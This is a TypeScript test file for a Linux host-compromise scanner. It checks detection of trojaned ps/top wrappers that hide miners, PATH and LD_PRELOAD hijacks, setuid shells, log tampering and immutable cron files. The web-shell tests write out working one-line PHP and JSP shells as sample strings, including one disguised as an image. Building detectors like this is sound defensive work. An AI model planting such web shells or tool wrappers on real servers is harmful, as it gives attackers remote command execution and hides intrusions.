import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { readWebPage } from '../../../src/findings/web-page.ts';
import { parseGetcap } from '../../../src/host/scan/capabilities.ts';
import { parseLsattr } from '../../../src/host/scan/immutable-files.ts';
import { findingOf, makeTree, scanTree, verdictOf } from './tree.ts';

const APT = { packageManager: 'apt' } as const;
const program = (text: string, mode = 0o755) => ({ text: `\x7fELF${text}`, mode });

describe('tools', () => {
  it('blames one that is not its package’s, one that is found before it and leaves lines out, and not its neighbours', async () => {
    const outcome = await scanTree(
      makeTree({
        '/usr/bin/ps': { text: '#!/bin/sh\n/usr/bin/ps.original "$@" | grep -v xmrig\n', mode: 0o755 },
        '/usr/bin/ps.original': program('ps'),
        '/usr/bin/ss': program('ss'),
        '/usr/bin/top': program('top'),
        '/usr/local/bin/top': { text: '#!/bin/sh\n/usr/bin/top "$@" | grep -v kinsing\n', mode: 0o755 },
        '/usr/local/bin/backup': program('own'),
        '/usr/bin/curl': program('curl'),
        '/usr/local/bin/cdt': program('curl'),
        '/usr/bin/gone.sh': program('wget-9'),
        ...packageOf('procps', { 'usr/bin/ps': '\x7fELFps', 'usr/bin/top': '\x7fELFtop' }),
        ...packageOf('iproute2', { 'usr/bin/ss': '\x7fELFss' }),
        ...packageOf('curl', { 'usr/bin/curl': '\x7fELFcurl' }),
      }),
      APT,
    );
    const ps = outcome.findings.find(({ title }) => title === '/usr/bin/ps');
    expect(ps).toMatchObject({
      verdict: 'malicious',
      package: 'procps',
      subject: { kind: 'setting', part: 'tools' },
    });
    expect(ps?.reasons.map(({ code }) => code)).toEqual(['changed-tool', 'script-for-program']);
    expect(findingOf(outcome, '/usr/bin/ps.original')?.verdict).toBe('suspicious');
    expect(findingOf(outcome, '/usr/local/bin/top')).toMatchObject({
      verdict: 'malicious',
      subject: { kind: 'file', role: 'shadowing-tool' },
    });
    expect(findingOf(outcome, '/usr/local/bin/cdt')).toMatchObject({
      verdict: 'suspicious',
      reasons: [{ code: 'renamed-tool' }],
    });
    for (const path of ['/usr/bin/ss', '/usr/bin/curl', '/usr/local/bin/backup'])
      expect(verdictOf(outcome, path)).toBe('not mentioned');
  });

  it('follows a PATH that a start file puts before the host’s own, and a library that /etc/environment loads', async () => {
    const outcome = await scanTree(
      makeTree({
        '/etc/profile.d/x.sh': 'export PATH=/bin/.local/bin:$PATH\n',
        '/home/ann/.profile': 'PATH="/home/ann/tools:$PATH"\n',
        '/bin/.local/bin/ss': program('fake'),
        '/home/ann/tools/own': program('own'),
        '/usr/bin/ss': program('ss'),
        '/etc/environment': 'PATH="/usr/bin:/bin"\nLD_PRELOAD=/var/tmp/.l/libx.so\n',
        '/var/tmp/.l/libx.so': program('so'),
        ...packageOf('iproute2', { 'usr/bin/ss': '\x7fELFss' }),
      }),
      APT,
    );
    expect(findingOf(outcome, '/bin/.local/bin/ss')).toMatchObject({ verdict: 'malicious' });
    expect(verdictOf(outcome, '/home/ann/tools/own')).toBe('not mentioned');
    expect(findingOf(outcome, 'LD_PRELOAD=/var/tmp')).toMatchObject({
      verdict: 'malicious',
      places: [{ path: '/etc/environment', line: 2 }],
    });
    expect(verdictOf(outcome, '/etc/environment line 1')).toBe('not mentioned');
  });

  it('leaves alone what a package has dpkg keep elsewhere', async () => {
    const outcome = await scanTree(
      makeTree({
        '/usr/bin/top': program('another'),
        '/var/lib/dpkg/diversions': '/usr/bin/top\n/usr/bin/top.procps\nbusytop\n',
        ...packageOf('procps', { 'usr/bin/top': '\x7fELFtop' }),
      }),
      APT,
    );
    expect(verdictOf(outcome, '/usr/bin/top')).toBe('not mentioned');
  });
});

describe('set-id programs', () => {
  it('blames a shell by any name and what runs as root from a temporary folder, and not su', async () => {
    const root = makeTree({
      '/usr/bin/su': program('su', 0o4755),
      '/usr/bin/find': program('find', 0o4755),
      '/bin/bash': program('bash'),
      '/usr/lib/x/wizlmsh': program('bash', 0o4755),
      '/var/tmp/a': program('x', 0o4755),
      '/var/tmp/not-executable': program('x', 0o644),
      '/opt/app/bin/helper': program('y', 0o4755),
      ...packageOf('util-linux', { 'usr/bin/su': '\x7fELFsu', 'usr/bin/find': '\x7fELFfind' }),
    });
    mkdirSync(join(root, 'proc/1/root'), { recursive: true });
    symlinkSync('..', join(root, 'opt/loop'));
    execFileSync('mkfifo', [join(root, 'var/tmp/fifo')]);
    mkdirSync(join(root, 'opt', 'd'.repeat(255), 'e'.repeat(255)), { recursive: true });
    const odd = Buffer.concat([Buffer.from(`${root}/opt/`), Buffer.from([0x6e, 0xff, 0x0a, 0x6e])]);
    writeFileSync(odd, 'z');
    chmodSync(odd, 0o4755);
    const outcome = await scanTree(root, APT, ['set-id']);
    expect(findingOf(outcome, 'wizlmsh')).toMatchObject({
      verdict: 'malicious',
      attack: ['T1548.001'],
      subject: { kind: 'file', role: 'set-id-program' },
    });
    expect(findingOf(outcome, '/var/tmp/a')?.verdict).toBe('malicious');
    // The package’s own may be needed: it is shown with what would set it right.
    expect(findingOf(outcome, '/usr/bin/find')).toMatchObject({
      verdict: 'malicious',
      subject: { kind: 'setting' },
    });
    expect(findingOf(outcome, '/opt/app/bin/helper')?.verdict).toBe('suspicious');
    expect(findingOf(outcome, '\udcff')?.title).toBe('/opt/n\udcff\nn');
    expect(verdictOf(outcome, '/usr/bin/su')).toBe('not mentioned');
    expect(verdictOf(outcome, 'not-executable')).toBe('not mentioned');
    expect(outcome.unknowns).toEqual([]);
  });

  it('reads capabilities as getcap writes them, old and new', () => {
    const text =
      '/t/usr/bin/ping cap_net_raw=ep\n/t/usr/bin/a b = cap_setuid,cap_setgid+eip\nnoise\n/other cap_chown=ep\n';
    expect(parseGetcap(text, '/t')).toEqual([
      { path: '/usr/bin/ping', capabilities: 'cap_net_raw=ep' },
      { path: '/usr/bin/a b', capabilities: 'cap_setuid,cap_setgid+eip' },
    ]);
  });

  it('finds a capability that makes root of an interpreter, and not that of ping', async () => {
    const root = makeTree({
      '/usr/bin/python3.11': program('py'),
      '/usr/bin/ping': program('ping'),
      ...packageOf('iputils-ping', { 'usr/bin/ping': '\x7fELFping' }),
      ...packageOf('python3', { 'usr/bin/python3.11': '\x7fELFpy' }),
    });
    execFileSync('setcap', ['cap_setuid+ep', join(root, 'usr/bin/python3.11')]);
    execFileSync('setcap', ['cap_net_raw+ep', join(root, 'usr/bin/ping')]);
    const outcome = await scanTree(root, APT, ['set-id']);
    expect(findingOf(outcome, 'python3.11')).toMatchObject({
      subject: { kind: 'setting' },
      attack: ['T1548'],
    });
    expect(findingOf(outcome, 'python3.11')?.verdict).toBe('malicious');
    expect(verdictOf(outcome, '/usr/bin/ping')).toBe('not mentioned');
  });
});

/** lastlog(5) with a log-in of root. */
const loggedIn = Buffer.alloc(292);
loggedIn.writeUInt32LE(1_790_000_000);

describe('impairment', () => {
  it('takes an empty wtmp for what it is where nobody ever logged in', async () => {
    const log = (lastlog: Buffer) =>
      makeTree({ '/var/log/wtmp': '', '/var/log/lastlog': { bytes: lastlog } });
    const look = (root: string) => scanTree(root, {}, ['impairment']);
    expect(findingOf(await look(log(Buffer.alloc(292_000))), 'wtmp')).toBeUndefined();
    expect(findingOf(await look(log(loggedIn)), 'wtmp')?.verdict).toBe('suspicious');
  });

  it('blames logs and histories that lead to nowhere, a program among sockets, and an agent that is gone', async () => {
    const root = makeTree({
      '/var/log/auth.log': { link: '/dev/null' },
      '/var/log/syslog': '',
      '/root/.bash_history': { link: '/dev/null' },
      '/home/ann/.bash_history': { link: '/srv/history/ann' },
      '/var/log/wtmp': '',
      '/var/log/lastlog': { bytes: loggedIn },
      '/tmp/.X11-unix/kinsing': program('m'),
      '/tmp/.ICE-unix/note': 'text',
      '/usr/local/aegis/globalcfg/domaincfg.ini': 'x',
      '/var/ossec/etc/ossec.conf': 'x',
      '/var/ossec/bin/wazuh-agentd': program('w'),
    });
    const outcome = await scanTree(root, {}, ['impairment']);
    expect(findingOf(outcome, '/var/log/auth.log')).toMatchObject({
      verdict: 'suspicious',
      attack: ['T1070.002', 'T1685.006'],
      subject: { kind: 'setting', value: '/dev/null' },
    });
    expect(findingOf(outcome, '/root/.bash_history')?.verdict).toBe('suspicious');
    expect(findingOf(outcome, '/var/log/wtmp')?.verdict).toBe('suspicious');
    expect(findingOf(outcome, '.X11-unix/kinsing')).toMatchObject({
      verdict: 'malicious',
      subject: { kind: 'file', role: 'hidden-file' },
    });
    expect(findingOf(outcome, '.ICE-unix/note')?.verdict).toBe('suspicious');
    expect(findingOf(outcome, '/usr/local/aegis')?.verdict).toBe('suspicious');
    for (const text of ['ann/.bash_history', 'syslog', 'ossec'])
      expect(verdictOf(outcome, text)).toBe('not mentioned');
  });

  it('shows what even root cannot change, where something starts from', async () => {
    const root = makeTree({
      '/etc/cron.d/x': '0 4 * * * root /usr/local/bin/x\n',
      '/etc/cron.d/y': '0 4 * * * root /usr/local/bin/y\n',
      '/etc/resolv.conf': 'nameserver 10.0.0.1\n',
    });
    const fixed = ['etc/cron.d/x', 'etc/resolv.conf'].map((path) => join(root, path));
    execFileSync('chattr', ['+i', ...fixed]);
    try {
      const outcome = await scanTree(root, {}, ['impairment']);
      expect(findingOf(outcome, '/etc/cron.d/x')).toMatchObject({
        verdict: 'suspicious',
        attack: ['T1222.002'],
        subject: { kind: 'setting', value: 'i', advice: expect.stringContaining('chattr -i') },
      });
      expect(verdictOf(outcome, '/etc/cron.d/y')).toBe('not mentioned');
      expect(verdictOf(outcome, '/etc/resolv.conf')).toBe('benign');
    } finally {
      execFileSync('chattr', ['-i', ...fixed]);
    }
  });

  it('reads the attributes that lsattr writes', () => {
    const text =
      '----i---------e------- /t/etc/cron.d/x\n-----a--------e------- /t/var/log/a b\n--------------e------- /t/etc/passwd\nlsattr: no\n';
    expect(parseLsattr(text, '/t')).toEqual([
      { path: '/etc/cron.d/x', flags: 'i' },
      { path: '/var/log/a b', flags: 'a' },
    ]);
  });
});

describe('web shells', () => {
  it.each([
    ['up.php', '<?php @eval(base64_decode($_POST["x"])); ?>', 'runs'],
    ['a.php', '<?php echo shell_exec($_GET[\'c\']." 2>&1");', 'runs'],
    ['b.php', '<?php echo `{$_REQUEST["q"]}`;', 'runs'],
    ['c.jsp', '<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>', 'runs'],
    ['d.php', '<?php eval(gzinflate(base64_decode("S03OyFdQ")));', 'hides'],
    ['e.php', '<?php $_GET["f"]($_POST["x"]);', 'runs'],
  ])('sees %s for what it is', (name, text, sign) => {
    expect(readWebPage(name, text, false)).toHaveProperty(sign);
  });

  it.each([
    ['index.php', '<?php require __DIR__."/vendor/autoload.php"; $kernel->handle(Request::capture());'],
    ['db.php', '<?php $pdo->exec("delete from t where id=".(int)$_GET["id"]);'],
    ['tpl.php', '<?php echo htmlspecialchars($_GET["name"]); /* see `ls` */'],
    ['curl.php', '<?php $body = curl_exec($ch); $id = $_GET["id"];'],
    ['system.php', '<?php class System { function exec() { return $_POST; } }'],
  ])('does not blame %s', (name, text) => {
    expect(readWebPage(name, text, false)).toBeNull();
  });

  it('finds one among pages, and one behind a picture’s name, and holds with hostile files', async () => {
    const root = makeTree({
      '/var/www/html/index.php': '<?php echo "hello";',
      '/var/www/html/wp-content/uploads/a.php': '<?php system($_REQUEST["c"]);',
      '/var/www/html/logo.ico': 'GIF89a<?php eval($_POST["k"]); ?>',
      '/var/www/html/real.gif': 'GIF89a\x00\x01',
      '/var/www/html/big.php': `<?php ${'`$_'.repeat(60_000)}`,
      '/var/www/html/loop': { link: '/var/www/html' },
    });
    execFileSync('mkfifo', [join(root, 'var/www/html/pipe.php')]);
    const outcome = await scanTree(root, {}, ['web-shells']);
    expect(findingOf(outcome, 'uploads/a.php')).toMatchObject({
      verdict: 'malicious',
      attack: ['T1505.003'],
      subject: { kind: 'file', role: 'web-shell' },
    });
    expect(findingOf(outcome, 'logo.ico')?.verdict).toBe('malicious');
    expect(outcome.findings).toHaveLength(2);
    expect(outcome.tookMs).toBeLessThan(5000);
  });
});

function packageOf(name: string, files: Readonly<Record<string, string>>): Record<string, string> {
  const paths = Object.keys(files);
  return {
    [`/var/lib/dpkg/info/${name}.list`]: `/.\n${paths.map((path) => `/${path}\n`).join('')}`,
    [`/var/lib/dpkg/info/${name}.md5sums`]: paths
      .map(
        (path) =>
          `${createHash('md5')
            .update(files[path] ?? '')
            .digest('hex')}  ${path}\n`,
      )
      .join(''),
  };
}
